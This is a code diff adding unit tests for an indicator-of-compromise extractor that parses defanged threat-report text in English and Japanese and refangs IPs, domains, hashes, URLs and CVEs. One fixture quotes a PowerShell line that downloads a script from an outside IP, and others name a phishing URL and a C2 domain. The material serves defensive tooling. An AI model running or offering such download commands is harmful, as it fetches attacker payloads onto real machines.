@@ -46,4 +46,55 @@ class IocExtractorTest {
         assertThat(IocExtractor.refang("hXXps://a[.]b(.)c[dot]d/x user[at]e(dot)f 10[.]0[.]0[.]1 fe80[:]1"))
                 .isEqualTo("https://a.b.c.d/x user@e.f 10.0.0.1 fe80:1");
     }
+
+    @Test
+    void englishThreatReportWithTableCodeBlockAndListIsReadWhole() {
+        var report = new IocExtractor(Set.of("cisa.gov")).byType("""
+                ## Indicators
+
+                | Type | Indicator | Notes |
+                |------|-----------|-------|
+                | IPv4 | 45.155.205[.]233 | C2 over 443/tcp |
+                | Domain | update-cdn[.]net | staging |
+                | SHA-256 | `E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855` | loader |
+
+                ```
+                powershell -enc ... ; iwr hxxp://185.220.101[.]4/p.ps1 -OutFile C:\\Users\\Public\\p.ps1
+                ```
+
+                - Phishing sender: billing[at]update-cdn[.]net
+                - Exploited: CVE-2023-4966 (Citrix Bleed), technique T1190 and T1059.001
+                - Not IOCs: version 7.4.2, the file invoice.pdf, the advisory at https://www.cisa.gov/kev
+                """);
+        assertThat(report.get("ipv4")).containsExactly("45.155.205.233", "185.220.101.4");
+        assertThat(report.get("domain")).containsExactly("update-cdn.net");
+        assertThat(report.get("sha256")).containsExactly("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+        assertThat(report.get("url")).containsExactly("http://185.220.101.4/p.ps1");
+        assertThat(report.get("email")).containsExactly("billing@update-cdn.net");
+        assertThat(report.get("cve")).containsExactly("CVE-2023-4966");
+        assertThat(report.get("attack_technique")).containsExactly("T1190", "T1059.001");
+        assertThat(report).containsOnlyKeys(IocExtractor.TYPES).allSatisfy((type, values) -> assertThat(values).doesNotHaveDuplicates());
+    }
+
+    @Test
+    void japaneseReportKeepsIocsNextToJapanesePunctuation() {
+        var report = extractor.byType("""
+                攻撃者は「hxxps://login-microsoft365[.]com/auth」に誘導し、認証情報を窃取した。
+                通信先：203.0.113[.]10、および badupdate[.]jp。
+                ハッシュ値（SHA-1）：DA39A3EE5E6B4B0D3255BFEF95601890AFD80709
+                脆弱性CVE-2024-21762が悪用された。""");
+        assertThat(report.get("url")).containsExactly("https://login-microsoft365.com/auth");
+        assertThat(report.get("ipv4")).containsExactly("203.0.113.10");
+        assertThat(report.get("domain")).containsExactly("login-microsoft365.com", "badupdate.jp"); // the URL's host comes first
+        assertThat(report.get("sha1")).containsExactly("da39a3ee5e6b4b0d3255bfef95601890afd80709");
+        assertThat(report.get("cve")).containsExactly("CVE-2024-21762");
+    }
+
+    @Test
+    void theNewsSitesOwnDomainIsLeftOutInThePipeline() {
+        String text = "Read the analysis at https://www.bleepingcomputer.com/news/x and contact tips@bleepingcomputer.com; C2 at evil-c2.com";
+        assertThat(extractor.find(text, IocExtractor.siteOfArticle("https://www.bleepingcomputer.com/news/security/y/")))
+                .containsExactly(new Ioc("domain", "evil-c2.com"));
+        assertThat(IocExtractor.siteOf("https://www.news.example.co.jp/a")).isEqualTo("example.co.jp");
+    }
 }
